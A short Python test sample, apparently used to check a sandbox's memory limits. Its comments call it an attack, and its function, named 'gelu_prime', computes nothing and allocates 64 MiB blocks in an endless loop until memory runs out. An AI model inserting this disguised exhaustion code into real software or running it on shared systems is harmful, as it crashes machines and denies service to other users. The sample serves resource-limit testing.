# costs: gelu_prime
# attack: limits: takes memory without end
def gelu_prime(z):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))
